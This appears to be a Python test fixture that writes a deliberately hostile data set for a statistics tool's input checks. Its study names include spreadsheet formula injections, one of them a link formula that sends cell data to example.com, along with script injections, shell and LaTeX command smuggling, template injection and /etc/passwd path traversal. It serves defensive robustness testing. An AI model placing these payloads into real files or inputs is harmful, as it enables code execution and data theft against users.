"""A data set in which every text that a person types tries to be a program of something."""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

CANARY = "canary"
"""A file that appears if any of it is ever run."""
NAMES = (
    f"=cmd|'/C touch {CANARY}'!A0",
    f'=HYPERLINK("http://example.com/?"&A1,"{CANARY}")',
    f"@SUM(1+1)*cmd|'/C touch {CANARY}'!A0",
    "+1",
    "-2",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "</script><script>alert(4)</script>",
    "]]></text><script>alert(5)</script>",
    "-->&#x3C;script&#x3E;&xxe;&lt;b&gt;",
    "[press](javascript:alert(6)) ![see](http://example.com/x.png)",
    f"`$(touch {CANARY})` $(touch {CANARY}); touch {CANARY} | touch {CANARY} && touch {CANARY}",
    rf"\input{{/etc/passwd}} \immediate\write18{{touch {CANARY}}} \openout1={CANARY}",
    r"$\frac{1}{0}$ \begin{document} % ^ _ ~ # & {",
    '#read("/etc/passwd") #eval("1") #include "x" #import "@preview/x:0.1.0" @x <y>',
    f'"); system("touch {CANARY}"); cat("',
    f"r system('touch {CANARY}'); __import__('os').system('touch {CANARY}')",
    "{{ 7*7 }} {% include '/etc/passwd' %} {0.__class__} %s %n ${7*7} {value} {name!r}",
    "../../../../etc/passwd",
    "| a | b |\\| **c** ~~d~~ # e > f [^1]",
    "http://example.com/ www.example.com a@example.com 10.1000/182 doi:10.1000/182",
    "\u05d0\u05d1\u05d2 \u0645\u0631\u062d\u0628\u0627 2020",
    "Zalgo " + "e" + "\u0301\u0300\u0323" * 40,
    "\N{FAMILY}\u200d\N{WOMAN} \u4e2d\u6587 \u0928\u092e\u0938\u094d\u0924\u0947",
    "CON",
    "X" * 10_000,
)
"""Names of studies, all of which ``metaprop check`` takes."""
_TEXTS = tuple(name for name in NAMES if len(name) < 1_000)


def _text(number: int) -> str:
    """Return one of the texts, as a string of TOML."""
    return json.dumps(_TEXTS[number % len(_TEXTS)], ensure_ascii=False)


def _passport() -> str:
    several = ", ".join(map(_text, range(len(_TEXTS))))
    return f"""\
title = {json.dumps(" ".join(_TEXTS)[:1900], ensure_ascii=False)}
question = {_text(5)}
citation = {_text(13)}
doi = {json.dumps('10.1/"><script>alert(7)</script>')}
registration = {_text(15)}
limitations = [{several}]
[outcomes.healed]
label = {json.dumps("<b>Union</b> $x$ #x " + chr(92) + "input{x}", ensure_ascii=False)}
direction = "higher is better"
thresholds = [0.8]
thresholds_reason = {_text(14)}
[columns.site]
meaning = {_text(6)}
unit = {_text(8)}
label = {_text(7)}
"""


def _model() -> str:
    return f"""\
name = {_text(5)}
family = "common-rate"
sentence = {_text(13)}
[location]
parameter = "average"
prior = {{ distribution = "beta", alpha = 1, beta = 1 }}
unit = "rate"
reason = {_text(15)}
source = {_text(11)}
"""


def write_strangers(place: Path, *, exact: bool) -> None:
    """Write the data set and a model into a folder: ``strangers`` and ``models``.

    Where not every count is ``exact``, no frequentist method answers, which takes most of the time.
    """
    data, models = place / "strangers", place / "models"
    for folder in (data, models, data / "readings"):
        folder.mkdir(parents=True)
    texts = {"dataset.toml": _passport(), "readings/other.toml": _reading()}
    texts["studies.csv"] = _csv(
        ("study", "site", "source"),
        *((name, _TEXTS[row % len(_TEXTS)], name[:500]) for row, name in enumerate(NAMES)),
    )
    texts["counts.csv"] = _csv(
        ("outcome", "study", "events", "total", "source"),
        *(
            ("healed", name, f"{9 + row % 3}" if exact or row else "9+", "12", name[:500])
            for row, name in enumerate(NAMES)
        ),
    )
    for name, text in texts.items():
        (data / name).write_text(text, encoding="utf-8")
    (models / "common_rate.toml").write_text(_model(), encoding="utf-8")


def _reading() -> str:
    return f"sentence = {_text(12)}\nleave_out = [{json.dumps(NAMES[5])}]\n"


def _csv(*rows: tuple[str, ...]) -> str:
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerows(rows)
    return text.getvalue()
